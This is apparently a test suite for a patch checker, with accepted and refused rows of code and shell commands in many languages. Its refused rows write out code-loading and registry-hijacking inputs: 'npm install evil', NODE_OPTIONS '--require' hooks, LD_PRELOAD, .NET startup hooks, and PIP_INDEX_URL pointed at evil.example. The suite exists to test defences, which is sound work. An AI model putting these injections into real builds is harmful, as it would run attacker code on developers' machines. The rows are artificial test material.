  ['src/x.swift', 'p.arguments = ["npm", "test"]'],
  ['src/x.clj', '(sh "git" "status")'],
  ['src/x.ml', 'Sys.command "dune test"'],
  ['src/x.hs', 'callCommand "cabal test"'],
  ['README.md', 'Run `npm install evil` to try it.'],
  // False refusals of the first version, in installed Perl (patch:fp): Perl's `local(…)` read as Fabric's, `(sh ` as
  // Clojure's where the shell reading writes `$0` as `sh`, rpm's query read as an install.
  ['src/check.pl', 'local($x) = 1; print "run npm install first";'],
  ['src/check.pl', 'warn("$0 script version, CPAN.pm version");'],
  ['src/check.pl', "return `rpm --queryformat '%{VERSION}' -q $package`;"],
  SYSTEM('pacman -Qi bash'),
  // Review of D/P's fix, M4: pacman's searches and rpm's queries, verifications and evaluations, guix's manifest.
  SYSTEM('pacman -Ss bash'),
  SYSTEM('pacman -Si bash'),
  SYSTEM('rpm -qi bash'),
  SYSTEM('rpm -Va'),
  SYSTEM("rpm -E '%{_arch}'"),
  SYSTEM('guix shell -m manifest.scm -- make check'),
  // Session 47 (B's other spellings): the same constructs running allowed commands, and the text they read otherwise.
  ['src/check.pl', 'system qq{make test};'],
  ['src/check.pl', 'system qw(git status);'],
  ['src/check.pl', 'my %opt = (q => 1, v => 0);'],
  ['src/check.pl', 'my $s = q{run npm install evil-pkg first}; print $s;'],
  ['src/check.pl', "printf(\"%-5s %s\\n\", $name, 'npm install evil-pkg');"],
  ['src/check.rb', 'system %(bundle exec rspec)'],
  ['src/check.rb', 'system <<~SH\n  bundle exec rspec\nSH'],
  ['src/check.rb', 'msg = <<~TXT\n  Run npm install evil-pkg first\nTXT\nputs msg'],
  ['src/check.pl', 'print <<"END";\nRun npm install evil-pkg first\nEND'],
  ['src/check.rb', 'flags = 1 << 4'],
  ['src/check.pl', 'open(FH, "< $file") or die;'],
  ['src/check.pl', 'open(FH, "git log --oneline |") or die;'],
  ['src/x.groovy', '"git status".execute(null, new File(\'.\'))'],
  ['src/x.groovy', "def out = ('ls -la').execute().text"],
  ['src/x.groovy', '"""git log --oneline""".execute()'],
  ['src/x.scala', '"sbt test".run()'],
  ['src/x.scala', '"sbt test" !'],
  ['src/x.scala', 'val lines = "git log --oneline".lazyLines'],
  ['src/x.scala', 'Process("sbt", Seq("test")).!'],
  ['src/x.js', "const same = 'npm install evil-pkg' !== hint;"],
  ['src/x.js', "tip('npm install evil-pkg').run();"],
  ['src/x.clj', '(shell/sh "git" "status")'],
  ['src/x.hs', 'createProcess (proc "cabal" ["test"])'],
  ['src/x.hs', 'runProcess_ "cabal build"'],
  ['src/x.py', "from sh import git\ngit('status')"],
  ['src/x.py', "import sh as s\ns.git('status')"],
  ['src/x.py', "from plumbum import local\nlocal.cmd.git('status')"],
  ['src/x.py', "import sh\nsh.Command('git')('status')"],
  ['src/x.py', "from sh import ErrorReturnCode\ntry:\n    pass\nexcept ErrorReturnCode as e:\n    print(e)"],
  ['src/x.py', "import re as s\ns.compile('npm install evil-pkg')"],
  ['src/X.cs', 'new ProcessStartInfo("dotnet", "test")'],
  ['src/X.cs', 'var psi = new ProcessStartInfo("npm", "test");'],
  // Review of session 47's patch, M4: the initializer's program and arguments, and pip's names not running pip.
  ['src/X.cs', 'var psi = new ProcessStartInfo { FileName = "dotnet", Arguments = "test" };'],
  ['src/X.cs', 'var psi = new ProcessStartInfo { FileName = "npm", Arguments = "test", UseShellExecute = false };'],
  ['src/x.py', "import pip as p\nprint(p.__version__)"],
  ['src/x.py', "import os, json as j\nj.dumps({})"],
  // Session 47, C/K/L/M: deno's verbs on the repository's own modules, Deno's arguments object running an allowed verb,
  // modules imported by name, pip's API not installing, runpy of the repository's module, options past a bare `--`.
  SYSTEM('deno test -A'),
  SYSTEM('deno test --allow-read src/'),
  SYSTEM('deno run -A main.ts'),
  SYSTEM('deno task build'),
  ['src/check.ts', "new Deno.Command('deno', { args: ['test', '-A'] }).outputSync()"],
  ['src/check.ts', "new Deno.Command('git', { args: ['status'] }).outputSync()"],
  ['src/check.py', "import importlib\nyaml = importlib.import_module('yaml')"],
  ['src/check.py', "mod = __import__('json')\nprint(mod.dumps({}))"],
  ['src/check.py', "from pip._internal.cli.main import main as pipmain\npipmain(['list'])"],
  ['src/check.py', "import runpy\nrunpy.run_module('mypackage.cli', run_name='__main__')"],
  SYSTEM('pnpm run build --reporter=append-only'),
  SYSTEM('npm test -- --verify-deps'),
  // Session 47, N: shims running allowed verbs, Windows' managers listing, a local installer or library registered.
  SYSTEM('npm.cmd test'),
  SYSTEM('npm.cmd ci'),
  SYSTEM('pip.exe list'),
  SYSTEM('cargo.exe build --release'),
  SYSTEM('choco list --local-only'),
  SYSTEM('winget list'),
  SYSTEM('pwsh -c "Get-Module -ListAvailable"'),
  SYSTEM('msiexec /i build\\\\app.msi /qn'),
  ['src/check.js', "execSync('regsvr32 /s build/x.dll')"],
  ['src/check.js', "execSync('npm.cmd run build', { stdio: 'inherit' })"],
  // Session 47, E: Go's other module modes, and `mod` as a test's name or a directory.
  SYSTEM('go test -mod=readonly ./...'),
  SYSTEM('go build -mod vendor ./...'),
  ['src/check.go', 'exec.Command("go", "test", "-mod", "vendor", "./...").Run()'],
  ['src/check.go', 'exec.Command("go", "test", "-run", "TestMod", "./mod").Run()'],
  SYSTEM('go test ./mod mod'),
]);

/**
 * Review of session 47's patch, M3 and L: Haskell's bare process words (`proc`, `shell`, `runCommand`, `runProcess_`)
 * and Perl's two-argument piped `open` are read in their own languages' files only, Groovy's and Scala's postfix runs
 * in theirs: in prose, a message or a comment elsewhere they name a command, and Kotlin's `run { … }` and TypeScript's
 * non-null `!` run nothing.
 */
describeAccepted('attack-48 B review: process calls of other languages read in their own files only', [
  ['README.md', 'Open a shell "npm install left-pad" and try again.'],
  ['docs/setup.md', "In the shell 'npm install x' adds it."],
  ['src/x.ts', "// in a shell 'npm install x' adds it"],
  ['src/x.ts', 'throw new Error(`run in a shell "npm install ${name}"`)'],
  ['src/x.ts', "log('the proc \"npm install x\" failed')"],
  ['src/x.py', "raise RuntimeError('run from a shell \"pip install x\"')"],
  ['src/x.ts', '// open(fh, "npm i x |")'],
  ['src/x.kt', 'val out = "npm install".run { length }'],
  ['src/x.ts', 'const hint = ["npm install x"]!;'],
]);

/**
 * B's readings of session 47 cost time linear in what they read (`test/support/growth.ts`): the spellings alone (in the
 * whole check, slower readings of the same line hide a quadratic one), and the calls PROCESS_CALL names in the check.
 */
describe('attack-48 B, C, E, K, L, M, N: session 47 readings in linear time', () => {
  it.each([
    ['src/x.scala', 'strings never run', '"a" '],
    ['src/x.scala', 'triple quotes never closed', '"""a" '],
    ['src/x.groovy', 'strings in parentheses never run', "('a' "],
    ['src/x.scala', 'collections never run', 'Seq(a(b) '],
    ['src/x.scala', 'a string, then spaces', '"a"                                 x'],
    ['src/check.pl', 'quote operators', 'q(%[qq{ '],
    ['src/x.py', 'programs looked up, never closed', "sh.Command('a/"],
    ['src/check.rb', 'heredocs never closed', 'system <<A\n'],
    ['src/x.py', 'modules imported by name, never closed', "__import__('a "],
    ['src/x.ts', 'arguments objects', ', { args: [, { args: '],
    ['src/x.py', 'import lists, names bound by name, continued imports', "import a, b as c, d = __import__('pip' import ( \\\n"],
    ['src/X.cs', 'start info properties never closed', 'FileName = "a", Arguments = "b '],
  ] as const)('spells, in %s, %s', { timeout: 120_000 }, (path, _, unit) => {
    expect(cpuGrowthExponent(PATCH_COST_SIZES, repeatedTo(unit), (text) => callsSpelledOut(path, text.split('\n')))).toBeLessThan(LINEAR_EXPONENT_BOUND);
  });
  it.each([
    ['src/check.pl', 'two-argument opens', 'open(FH, "a '],
    ['src/x.hs', 'Haskell calls without parentheses', 'proc shell runProcess_ '],
    ['src/check.py', 'scopes and settings after a verb', "system('npm x --@a.b --verify "],
    ['src/check.py', "deno's verbs, no module named", "system('deno test x deno x"],
    ['src/check.py', 'shims, module modes and installers, no URL', "system('npm.cmd x -mod    msiexec /i "],
  ] as const)('checks, in %s, %s', { timeout: 120_000 }, checksInLinearTime);
});

/**
 * Decoders whose output is data, not run (T's readings, session 48): printed, written, deserialized, piped to a non-shell.
 * Unpickled is not among them since session 50 (attack-52): `pickle.loads(base64.b64decode(row['state']))` runs what
 * the row says; the row here is parsed as JSON, and attack-52's file holds the unpickler's row, refused.
 */
describeAccepted('attack-48 T: decoded data stays accepted', [
  SYSTEM('git log --format=%H | rev | cut -c1-7 | rev'),
  SYSTEM('zcat data.sql.gz | python3 load.py'),
  SYSTEM('gunzip -c dump.gz | psql app'),
  SYSTEM('git rev-parse HEAD | tee sha.txt'),
  SYSTEM('base64 -d <<< "$KEY" > key.pem && chmod 600 key.pem'),
  SYSTEM('printf "\\\\033[1mok\\\\033[0m\\\\n"; bash scripts/test.sh'),
  ['src/x.py', 'import base64\ndata = base64.b64decode(payload)\nprint(data)'],
  ['src/x.py', "data = json.loads(base64.b64decode(row['state']))"],
  ['src/x.py', "name = ''.join(chr(c) for c in codes)\nprint(name)"],
  ['src/x.js', "const text = Buffer.from(body, 'base64').toString('utf8'); console.log(text)"],
  ['src/x.js', "const out = Buffer.from(execSync('git show HEAD:x'))"],
  ['src/x.js', "document.write(rows.reverse().join(''))"],
  ['src/x.js', 'setTimeout(() => console.log(atob(s)), 10)'],
  ['src/x.py', "import subprocess\nsubprocess.run(['xxd', '-r', '-p', 'in.hex', 'out.bin'], check=True)"],
]);

/** Dependencies in source, initializers over lines, doctests (F, M4 and O's readings, session 49): what stays accepted. */
describeAccepted('attack-48 F, M4, O: ordinary source and documentation stay accepted', [
  ['src/gen.go', '//go:generate stringer -type=Pill'],
  ['src/gen.go', '//go:generate go run ./cmd/gen'],
  ['src/main.scala', '//> using scala 3.3.1'],
  ['src/main.scala', '//> using options -deprecation'],
  ['src/check.R', 'library(dplyr)\nif (!requireNamespace("x")) stop("install x first")'],
  ['src/check.rb', "gem_version = Gem::Version.new('1.0')"],
  ['src/check.jl', 'using Pkg\nPkg.status()'],
  ['src/tool.py', '# Usage: uv run tool.py\nimport sys'],
  ['src/X.cs', 'var psi = new ProcessStartInfo\n{\n    FileName = "npm",\n    Arguments = "test",\n    UseShellExecute = false,\n};'],
  ['src/X.cs', 'var psi = new ProcessStartInfo\n{\n    FileName = "dotnet",\n    Arguments = "build -c Release",\n};'],
  ['README.md', "To use a mirror, set `PIP_INDEX_URL`:\n```bash\nexport PIP_INDEX_URL=https://mirror.example/simple\n```"],
  ['README.md', "Write `~/.npmrc` with `registry=https://r.example/`.\n```toml\n[build]\nrustc-wrapper = \"sccache\"\n```"],
  ['README.md', "```python\n>>> import os\n>>> os.environ.get('PIP_INDEX_URL')\n```"],
]);

/** Calls read further (R's readings, session 48): commands named apart from their calls, text after a closed call. */
describeAccepted('attack-48 R: calls read further stay accepted', [
  ['src/x.py', "import subprocess\ncmd = ['npm', 'test']\nsubprocess.run(cmd, check=True)"],
  ['src/x.py', "import subprocess\ncmd = 'npm run build'\nsubprocess.run(cmd, shell=True, check=True)"],
  ['src/x.js', "const cmd = 'npm test';\nexecSync(cmd, { stdio: 'inherit' });"],
  ['src/x.py', "import subprocess\nsubprocess.run(\n    ['npm', 'test'],\n    check=True,\n)\nprint('if it fails, try: npm install')"],
  ['src/x.py', "import subprocess\nsubprocess.run(['npm', 'test'], check=True)\n\n\n\n\nlog('then run npm install x')"],
  SYSTEM(`echo ${'x'.repeat(300)} && npm test`),
  // patch:fp (session 48): npm's link.js, a method named exec whose body mentions `npm link`.
  ['src/x.js', "async exec (args) {\n  if (this.npm.global) {\n    throw new Error('no')\n  }\n  // implicitly false when running `npm link`\n  this.npm.config.set('install-links', false)\n}"],
]);

/** A program computed given a verb no manager fetches with, or git's `add` (S's reading, session 48). */
describeAccepted('attack-48 S: computed programs given other verbs stay accepted', [
  ['src/x.go', 'exec.Command(git, "add", ".").Run()'],
  ['src/x.py', "import subprocess\nsubprocess.run([GIT, 'add', path], check=True)"],
  ['src/x.py', "import subprocess, sys\nsubprocess.run([sys.executable, 'setup.py', 'build'], check=True)"],
  ['src/x.py', "import subprocess\nsubprocess.run(['git', 'status'], executable='/usr/bin/git')"],
  ['src/x.js', "spawnSync(process.execPath, [script, 'test'], { stdio: 'inherit' })"],
  ['src/x.py', "steps = [step, 'install', 'test']"],
]);

/** Modules and workers from the repository, an import map of its own files (U's reading, session 48). */
describeAccepted('attack-48 U: modules of the repository stay accepted', [
  ['src/index.html', '<script type="importmap">\n{\n  "imports": {\n    "react": "./vendor/react.js"\n  }\n}\n</script>'],
  ['src/app.js', "const w = new Worker(new URL('./worker.js', import.meta.url), { type: 'module' })"],
  ['src/app.js', 'const mod = await import(`./locales/${lang}.js`)'],
  ['src/app.ts', 'const m = await import(/* webpackChunkName: "x" */ \'./x\')'],
  ['src/app.ts', "const x = a ? import('./a') : import('./b')"],
  ['src/app.js', "const url = 'https://api.example.com/v1'; const res = await fetch(url)"],
  ['src/app.js', "const base = 'https://cdn.example.com/'; const mod = await import('./mod.js')"],
  // patch:fp (session 48): @aws/lambda-invoke-store's import of a Node builtin.
  ['src/app.js', "const asyncHooks = await import('node:async_hooks');"],
  ['src/app.js', "const mod = 'node:fs'; const fs = await import(mod);"],
]);

/** T's, S's, U's and R's readings of session 48 cost time linear in what they read: decoders in sinks never closed, a shell's decoders never piped, programs computed, addresses never imported, calls never closed, names given literals. */
describe('attack-48 T, S, U, R: session 48 readings in linear time', () => {
  it.each([
    ['src/x.js', 'sinks given decoders, never closed', "eval(atob(Buffer.from(x, 'y' "],
    ['src/x.py', 'reversed literals and char codes in sinks', "exec(bytes([map(chr, 'a'[::-1] "],
    ['src/x.js', 'decoded names, never run', 'c = atob(x); '],
    ['src/check.py', "a shell's decoders, never piped to a shell", "system('base64 -d x -d xxd -r -z rev tr a-z-a-z "],
    ['src/check.py', 'computed programs, never given a verb', "run([a.b[c](d), 'x', executable= "],
    ['src/app.js', 'names given addresses, never imported', "u = 'https://x'; import(/* a */ v"],
    ['src/index.html', 'import maps never given an address', '<script type="importmap">{"a": "./b", '],
    ['src/x.py', 'calls never closed, across lines', 'subprocess.run(\n(['],
    ['src/x.py', 'names given literals, given to calls', "c = 'a'\nrun(c, c, [c, "],
    ['src/check.py', 'escapes printed, substitutions never closed', "system('printf a eval $(printf \\x6 sh <(rev "],
    ['src/X.cs', 'initializers opened over lines, never given a program', 'new ProcessStartInfo new ProcessStartInfo() { Arguments = "a"\n'],
    ['src/check.R', 'installers named, never called', 'pak::pak remotes:::install_x BiocManager :: install '],
  ] as const)('checks, in %s, %s', { timeout: 120_000 }, checksInLinearTime);
});

/**
 * Ordinary calls of the runners and managers D and P's fixes (session 46) named: what they print, test, build or run
 * of the repository's own, and fetches of what its manifest declares (`flutter pub get`, `dotnet restore`).
 */
describeAccepted('attack-48 D/P: ordinary runner and manager calls stay accepted', [
  SYSTEM('conda list'),
  SYSTEM('conda run -n test pytest'),
  SYSTEM('conda env list'),
  SYSTEM('dotnet test'),
  SYSTEM('dotnet test -s test.runsettings'),
  SYSTEM('dotnet build -c Release'),
  SYSTEM('dotnet restore'),
  SYSTEM('dotnet new console'),
  SYSTEM('mise run test'),
  LIST("'mise', 'run', 'lint'", ', check=True'),
  SYSTEM('pixi run test'),
  SYSTEM('mvn -B test'),
  SYSTEM('mvn versions:display-dependency-updates'),
  SYSTEM('cabal test'),
  SYSTEM('stack build --test'),
  SYSTEM('flutter pub get'),
  SYSTEM('dart test'),
  SYSTEM('mix test'),
  SYSTEM('zig build test'),
  SYSTEM('bundler exec rspec'),
  SYSTEM('yarnpkg test'),
  SYSTEM('nix-shell --run "make test"'),
  SYSTEM('clojure -M:test'),
  SYSTEM('opam exec -- dune test'),
  SYSTEM('echo yay'),
  // Review of D/P's fix, M1: the managers named by common words (stack, proto, snap, mix, dart, zig) and zypper's `in`
  // read as bare identifiers in code after any call.
  ['src/check.py', "import subprocess\nout = subprocess.run(['ls'], check=True)\nfor stack in stacks:\n    print(stack)"],
  ['src/check.py', "result = run(cfg)\nif proto in ('tcp', 'udp'):\n    pass"],
  ['src/check.py', "import subprocess\nsubprocess.run(cmd, check=True)\nif snap in snapshots:\n    pass"],
  ['src/check.js', 'handler.call(this, stack, i);'],
  ['src/check.js', 'fn.call(null, proto, i)'],
  ['src/check.js', 'exec(query, [stack, set])'],
  ['src/check.js', 'await run(stack - 1, proto)'],
  ['src/check.py', 'top = run(stack - 1)'],
  ['src/check.py', 'timer.start(); zig = make_zig(); zig -= 1'],
]);

/**
 * .NET's environment (session 46, with D's dotnet rows): a later allowed `dotnet test` loads the assemblies
 * DOTNET_STARTUP_HOOKS and DOTNET_ADDITIONAL_DEPS name, NuGet runs the plugins NUGET_PLUGIN_PATHS names and takes its
 * packages from NUGET_PACKAGES. Its cosmetic settings, which CI sets to quiet a log, stay accepted: their family is not
 * the first of the refused families, where COSMETIC_ENVIRONMENT's lookahead alone was read (it bound to the first
 * alternative only).
 */
describe('attack-48 D: .NET environment', () => {
  it.each([
    ENV('DOTNET_STARTUP_HOOKS', '/tmp/x.dll'),
    ENV('DOTNET_ADDITIONAL_DEPS', '/tmp/deps.json'),
    ENV('NUGET_PLUGIN_PATHS', '/tmp/p.dll'),
    ['src/check.js', "process.env.NUGET_PACKAGES = '/tmp/packages';"],
    SYSTEM('DOTNET_STARTUP_HOOKS=/tmp/x.dll dotnet test'),
    ENV('DOTNET_NOLOGO_HOOKS', '/tmp/x.dll'),
  ])('refuses, in %s: %s', (path, text) => expectRefused(path, text));
  it.each([
    ENV('DOTNET_CLI_TELEMETRY_OPTOUT', '1'),
    ENV('DOTNET_NOLOGO', 'true'),
    SYSTEM('DOTNET_SKIP_FIRST_TIME_EXPERIENCE=1 dotnet test'),
    ['src/x.rs', 'std::env::set_var("DOTNET_CLI_TELEMETRY_OPTOUT", "1");'],
    ['src/x.js', "spawnSync('dotnet', ['test'], { env: { ...process.env, DOTNET_NOLOGO: 'true' } })"],
  ])('accepts, in %s: %s', (path, text) => expectAccepted(path, text));
});

/**
 * False refusals (lower priority): ordinary read-only or build calls a fix's tooling code makes, refused because their
 * verb is not on the manager's list. None fetches or runs code a build would not: `go list`/`go fmt`, `cargo metadata`
 * (the usual way Rust tooling reads a workspace), `cargo tree`, `cargo doc`/`cargo bench` (as `cargo build`/`test`),
 * `pnpm exec <local bin>` (never fetches, unlike dlx), pnpm's script shorthand (`pnpm lint`, `pnpm build`); NODE_OPTIONS
 * with only a heap size, an allowed verb given `env` with CI=true, cosmetic settings of a manager's family. All 16 fixed
 * in session 45; the refusal rows say what each fix must still refuse.
 */
describe('attack-48 false refusals', () => {
  // Fixed in session 45 (go list/fmt, cargo metadata/tree/doc/bench, pnpm exec/lint/build on their managers' lists).
  it.each([
    ['src/check.py', "import os\nos.system('go list ./...')"],
    ['src/tool.go', 'out, err := exec.Command("go", "list", "-m", "-json", "all").Output()'],
    ['src/check.py', "import os\nos.system('go fmt ./...')"],
    ['src/check.py', "import subprocess\nsubprocess.run(['cargo', 'metadata', '--format-version', '1'], check=True)"],
    ['src/check.py', "import os\nos.system('cargo tree')"],
    ['src/check.py', "import os\nos.system('cargo doc --no-deps')"],
    ['src/check.py', "import os\nos.system('cargo bench')"],
    ['src/check.py', "import subprocess\nsubprocess.run(['pnpm', 'exec', 'tsc', '--noEmit'], check=True)"],
    ['src/check.py', "import os\nos.system('pnpm lint')"],
    // Fixed in session 45: Rust's `.args([…])` read as a list; NODE_OPTIONS of sizes only; cosmetic settings excepted;
    // an inherited environment with harmless names added.
    ['src/xtask.rs', 'let out = Command::new("cargo").args(["metadata", "--format-version", "1"]).output()?;'],
    ['src/xtask.rs', 'Command::new("cargo").args(&["test", "--workspace"]).status()?;'],
    // The commonest CI fix for "JavaScript heap out of memory", set for the builds a script starts (a heap size loads nothing).
    ['src/x.js', "process.env.NODE_OPTIONS = '--max-old-space-size=4096';"],
    ['src/x.py', "import os\nos.environ['NODE_OPTIONS'] = '--max-old-space-size=4096'"],
    ['src/x.js', "process.env.NODE_OPTIONS = '--max_old_space_size=4096 --max-semi-space-size=64 --stack-size=2000';"],
    // Cosmetic settings refused by family.
    ['src/x.rs', 'std::env::set_var("CARGO_TERM_COLOR", "always");'],
    ['src/x.py', "import os\nos.environ['PIP_DISABLE_PIP_VERSION_CHECK'] = '1'"],
    // An allowed verb run with the environment plus CI=true (any `env` refused the call).
    ['src/x.py', "import subprocess, os\nsubprocess.run(['npm', 'run', 'build'], check=True, env={**os.environ, 'CI': 'true'})"],
    ['src/x.js', "spawnSync('npm', ['test'], { stdio: 'inherit', env: { ...process.env, CI: 'true' } })"],
  ] as const)('accepts, in %s: %s', (path, text) => expectAccepted(path, text));
  // What the fixes above must still refuse.
  it.each([
    ['src/check.rs', 'Command::new("cargo").args(["install", "evil"]).status()?;'],
    ['src/check.rs', 'Command::new("cargo").args(&["install", "evil"]).status()?;'],
    ['src/check.rs', 'Command::new("cargo").args(["metadata", "--config", "x"]).output()?;'],
    ['src/check.rs', 'Command::new("cargo").args(["+nightly", "build"]).status()?;'],
    ['src/check.rs', 'Command::new("cargo").args(["test"]).args(["install", "evil"]).status()?;'],
    ['src/check.rs', 'Command::new("cargo").args(["test"]).env("RUSTC_WRAPPER", "./w").status()?;'],
    ['src/check.rs', 'Command::new("cargo").args(["test", "--manifest-path", "/tmp/x/Cargo.toml"]).status()?;'],
    ['src/check.rs', 'Command::new("cargo").arg("test").arg("--manifest-path").arg("/tmp/x/Cargo.toml").status()?;'],
    ['src/check.js', "process.env.NODE_OPTIONS += ' --require ./x.js';"],
    ['src/check.js', "process.env.NODE_OPTIONS = '--max-old-space-size=4096'; process.env.NODE_OPTIONS += ' -r ./x.js';"],
    ['src/check.js', "process.env.NODE_OPTIONS = '--max-old-space-size=4096 --require ./x.js';"],
    ['src/check.js', 'process.env.NODE_OPTIONS = `--max-old-space-size=${X}`;'],
    ['src/check.js', "process.env.NODE_OPTIONS = '--max-old-space-size=4096' + extra;"],
    ['src/check.py', "import os\nos.environ['NODE_OPTIONS'] = '--max-old-space-size=4096 -r ./x.js'"],
    ['src/check.py', "import os\nos.environ['NODE_OPTIONS'] = '--import=./x.mjs'"],
    ['src/check.py', "import os\nos.environ['NODE_OPTIONS'] = '--max-old-space-size=4096' if ci else '--loader ./x.mjs'"],
    ['src/check.rs', 'std::env::set_var("CARGO_TERM_COLOR_X", "always");'],
    ['src/check.py', "import os\nos.environ['PIP_INDEX_URL'] = 'https://evil.example/'"],
    // An inherited environment with added keys: only names on the harmless list, only plain literals, nothing joined in.
    ['src/check.py', "import subprocess, os\nsubprocess.run(['npm', 'run', 'build'], check=True, env={**os.environ, 'npm_config_registry': 'https://evil.example/'})"],
    ['src/check.js', "spawnSync('npm', ['test'], { stdio: 'inherit', env: { ...process.env, NODE_OPTIONS: '--require x' } })"],
    ['src/check.js', "spawnSync('npm', ['test'], { stdio: 'inherit', env: { ...process.env, LD_PRELOAD: './x.so' } })"],
    ['src/check.py', "import subprocess, os\nsubprocess.run(['npm', 'run', 'build'], check=True, env={**os.environ, 'PATH': './bin'})"],
    ['src/check.py', "import subprocess, os\nsubprocess.run(['npm', 'run', 'build'], check=True, env={**os.environ, CI: 'true'})"],
    ['src/check.py', "import subprocess, os\nsubprocess.run(['npm', 'run', 'build'], check=True, env={**os.environ, 'CI': 'true', **evil})"],
    ['src/check.py', "import subprocess, os\nsubprocess.run(['npm', 'run', 'build'], check=True, env={**os.environ, 'CI': 'true'} | evil)"],
    ['src/check.js', "spawnSync('npm', ['test'], { env: { ...evil, CI: 'true' } })"],
    ['src/check.js', "spawnSync('npm', ['test'], { env: { ...process.env, [k]: 'true' } })"],
    ['src/check.js', "spawnSync('npm', ['test'], { env: { ...process.env, CI: 'true' }, shell: true })"],
    ['src/check.js', "spawnSync('npm', ['install', 'evil'], { env: { ...process.env, CI: 'true' } })"],
  ] as const)('still refuses, in %s: %s', (path, text) => expectRefused(path, text));
});
